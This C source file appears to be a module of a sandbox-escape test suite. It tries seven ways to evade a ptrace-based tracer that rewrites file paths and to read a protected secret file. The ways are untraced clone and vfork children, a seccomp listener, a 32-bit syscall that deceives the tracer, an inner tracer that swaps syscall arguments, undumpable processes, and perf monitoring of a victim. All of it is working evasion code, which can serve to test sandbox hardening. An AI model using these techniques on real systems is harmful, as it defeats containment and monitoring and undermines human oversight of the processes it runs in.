/* Getting rid of a tracer that rewrites the paths, and of filters that call it. */
#include "escape.h"

#include <linux/audit.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <sched.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

/* A child that no tracer is told of. */
static int opens_in_untraced(void)
{
	int status = -1;
	long child = syscall(SYS_clone, CLONE_UNTRACED | SIGCHLD, 0, 0, 0, 0);
	if (child == 0)
		_exit(is_secret(open(target.file, O_RDONLY)) ? 142 : errno);
	if (child < 0)
		return 0;
	waitpid((pid_t)child, &status, 0);
	errno = WIFEXITED(status) ? WEXITSTATUS(status) : 0;
	return errno == 142;
}

static int opens_in_vfork(void)
{
	int status = -1;
	pid_t child = vfork();
	if (child == 0)
		_exit(is_secret(open(target.file, O_RDONLY)) ? 142 : 0);
	waitpid(child, &status, 0);
	return WIFEXITED(status) && WEXITSTATUS(status) == 142;
}

static long install(struct sock_filter *rules, unsigned short length, unsigned flags)
{
	struct sock_fprog program = { length, rules };
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	return syscall(SYS_seccomp, 1 /* SECCOMP_SET_MODE_FILTER */, flags, &program);
}

static void *answer(void *listener)
{
	struct seccomp_notif request;
	struct seccomp_notif_resp response;
	for (;;) {
		memset(&request, 0, sizeof(request));
		if (ioctl((int)(intptr_t)listener, SECCOMP_IOCTL_NOTIF_RECV, &request) < 0)
			return NULL;
		memset(&response, 0, sizeof(response));
		response.id = request.id;
		response.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl((int)(intptr_t)listener, SECCOMP_IOCTL_NOTIF_SEND, &response);
	}
}

/* To tell a listener goes before telling the tracer: the listener says that the call may go on. */
static int opens_by_listener(void)
{
	pthread_t thread;
	struct sock_filter rules[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	long listener = install(rules, 4, 8 /* SECCOMP_FILTER_FLAG_NEW_LISTENER */);
	if (listener < 0)
		return 0;
	pthread_create(&thread, NULL, answer, (void *)listener);
	return is_secret((int)syscall(SYS_openat, AT_FDCWD, target.file, O_RDONLY));
}

/* Words of its own for the tracer, of what kind the call is. */
static int opens_by_lie(void)
{
	struct sock_filter rules[] = { BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE | 0) };
#ifdef __x86_64__
	char *low = mmap((void *)0x10000000, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long result;
	if (low == MAP_FAILED || strlen(target.file) > 4000)
		return 0;
	strcpy(low, target.file);
	struct sock_filter only_32_bit[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_I386, 0, 1),
		rules[0],
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	/* Where nobody traces, the call is refused for that: then it is made without. */
	if (getenv("HOST") == NULL && install(only_32_bit, 4, 0) < 0)
		return 0;
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(5), "b"((unsigned long)low), "c"(0), "d"(0)
			 : "memory", "r8", "r9", "r10", "r11");
	return is_secret((int)result);
#else
	(void)rules;
	return is_secret(open(target.file, O_RDONLY));
#endif
}

/* A tracer inside exchanges the argument of a call when the one outside may already have looked. */
static int opens_by_tracing(int stop_at_exit)
{
	int status;
	pid_t child = fork();
	if (child == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		_exit(is_secret((int)syscall(SYS_openat, AT_FDCWD, "/nothing", O_RDONLY)) ? 142 : 0);
	}
	waitpid(child, &status, 0);
	for (int i = 0; WIFSTOPPED(status) && i < 200; i++) {
#ifdef __x86_64__
		long number = ptrace(PTRACE_PEEKUSER, child, (void *)offsetof(struct user_regs_struct, orig_rax), NULL);
		if (number == SYS_openat || stop_at_exit)
			ptrace(PTRACE_POKEUSER, child, (void *)offsetof(struct user_regs_struct, rsi), target.file);
		if (number == SYS_openat && stop_at_exit)
			ptrace(PTRACE_POKEUSER, child, (void *)offsetof(struct user_regs_struct, orig_rax), SYS_openat);
#endif
		if (ptrace(PTRACE_SYSCALL, child, NULL, NULL) < 0)
			break;
		waitpid(child, &status, 0);
	}
	if (WIFSTOPPED(status))
		kill(child, SIGKILL);
	return WIFEXITED(status) && WEXITSTATUS(status) == 142;
}

static int traces_at_entry(void) { return opens_by_tracing(0); }

static int opens_undumpable(void)
{
	prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
	prctl(PR_SET_PTRACER, 0, 0, 0, 0);
	return is_secret(open(target.file, O_RDONLY));
}

static int watches_victim(void)
{
	struct { uint32_t type, size; uint64_t config, rest[14]; } attributes = { 1, 128, 0, { 0 } };
	((unsigned char *)&attributes)[40] = 0x60; /* not the kernel, not the hypervisor */
	return syscall(SYS_perf_event_open, &attributes, target.victim, -1, -1, 0) >= 0;
}

void try_tracer(void)
{
	tell("clone-untraced", in_child(opens_in_untraced));
	tell("vfork", in_child(opens_in_vfork));
	tell("seccomp-listener", in_child(opens_by_listener));
	tell("seccomp-trace", in_child(opens_by_lie));
#ifdef __x86_64__
	tell("ptrace-rewrite", in_child(traces_at_entry));
#endif
	tell("not-dumpable", in_child(opens_undumpable));
	tell("perf", in_child(watches_victim));
}
